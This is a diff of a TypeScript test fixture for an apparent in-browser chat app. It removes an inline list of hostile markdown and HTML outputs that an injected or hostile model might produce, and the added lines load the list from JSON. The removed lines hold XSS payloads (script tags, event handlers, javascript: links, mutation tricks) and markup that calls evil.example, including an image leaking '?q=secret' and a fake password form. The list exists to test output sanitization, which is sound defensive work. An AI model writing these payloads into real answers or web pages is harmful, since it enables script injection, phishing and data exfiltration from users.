@@ -1,48 +1,11 @@
-/** What a hostile model, or a hostile page that it read from, may write into an answer. */
-export const HOSTILE_OUTPUTS: readonly (readonly [name: string, markdown: string])[] = [
-  ["a script", "<script>globalThis.ran = true</script>"],
-  ["a script in a paragraph", "Well <script>globalThis.ran = true</script> then"],
-  ["a script of another case", "<ScRiPt>globalThis.ran = true</sCrIpT>"],
-  ["an unclosed script", "<script>globalThis.ran = true"],
-  ["a script by URL", '<script src="https://evil.example/x.js"></script>'],
-  ["an image's error handler", "<img src=x onerror=\"globalThis.ran = true\">"],
-  ["an image's error handler without quotes", "<img src=x onerror=globalThis.ran=true>"],
-  ["an SVG with a load handler", '<svg onload="globalThis.ran = true"></svg>'],
-  ["an SVG with a script", "<svg><script>globalThis.ran = true</script></svg>"],
-  ["an SVG animation of a link", '<svg><a><animate attributeName="href" values="javascript:globalThis.ran=true"/><text>x</text></a></svg>'],
-  ["MathML mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=globalThis.ran=true&gt;\">"],
-  ["a mutation through noscript", '<noscript><p title="</noscript><img src=x onerror=globalThis.ran=true>">'],
-  ["a mutation through a template", "<template><img src=x onerror=globalThis.ran=true></template>"],
-  ["a javascript: link", "[click](javascript:globalThis.ran=true)"],
-  ["a javascript: link with a tab in it", "[click](<java\tscript:globalThis.ran=true>)"],
-  ["a javascript: link with entities", "[click](&#106;avascript:globalThis.ran=true)"],
-  ["a javascript: link of another case", "[click](JaVaScRiPt:globalThis.ran=true)"],
-  ["a javascript: link in markup", '<a href="javascript:globalThis.ran=true">click</a>'],
-  ["a vbscript: link", "[click](vbscript:msgbox)"],
-  ["a data: document link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
-  ["a javascript: autolink", "<javascript:globalThis.ran=true>"],
-  ["a javascript: reference link", "[click][x]\n\n[x]: javascript:globalThis.ran=true"],
-  ["an image that calls home", "![](https://evil.example/pixel.png?q=secret)"],
-  ["a reference image that calls home", "![a][x]\n\n[x]: https://evil.example/pixel.png"],
-  ["an image in a table", "| a |\n|---|\n| ![x](https://evil.example/p.png) |"],
-  ["an SVG as data: image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"],
-  ["an image of several sources", '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png">'],
-  ["a style element", "<style>body { background: url(https://evil.example/x) }</style>"],
-  ["a style attribute", '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">over all</p>'],
-  ["a stylesheet link", '<link rel="stylesheet" href="https://evil.example/x.css">'],
-  ["a frame", '<iframe src="https://evil.example/"></iframe>'],
-  ["a frame with a document in it", '<iframe srcdoc="<script>globalThis.ran = true</script>"></iframe>'],
-  ["an object", '<object data="https://evil.example/x.swf"></object>'],
-  ["an embed", '<embed src="https://evil.example/x.swf">'],
-  ["a form", '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>'],
-  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
-  ["a base", '<base href="https://evil.example/">'],
-  ["a video with a poster", '<video poster="https://evil.example/x.png" src="https://evil.example/x.mp4"></video>'],
-  ["an id that shadows a global", '<p id="webllmApp">x</p><a id="location" href="https://evil.example/">y</a>'],
-  ["a class of the page's own", '<div class="error-card" data-testid="error">Your session has ended</div>'],
-  ["code whose language is markup", '```"><img src=x onerror=globalThis.ran=true>\ncode\n```'],
-  ["code that closes its element", "```html\n</code></pre><script>globalThis.ran = true</script>\n```"],
-  ["inline code with markup", "`<img src=x onerror=globalThis.ran=true>`"],
-  ["a title attribute that breaks out", '[x](https://ok.example "\\"><img src=x onerror=globalThis.ran=true>")'],
-  ["an alternative text that breaks out", '![\\"><img src=x onerror=globalThis.ran=true>](https://evil.example/x.png)'],
-];
+/**
+ * What a hostile model, or a hostile page that it read from, may write into an answer; and names that a hostile file
+ * may have. JSON, because the tests in a browser render them too.
+ */
+import corpus from "./hostile-outputs.json" with { type: "json" };
+
+export const HOSTILE_OUTPUTS: readonly (readonly [name: string, markdown: string])[] = corpus.outputs.map(
+  ([name = "", markdown = ""]) => [name, markdown],
+);
+
+export const HOSTILE_FILE_NAMES: readonly string[] = corpus.file_names;
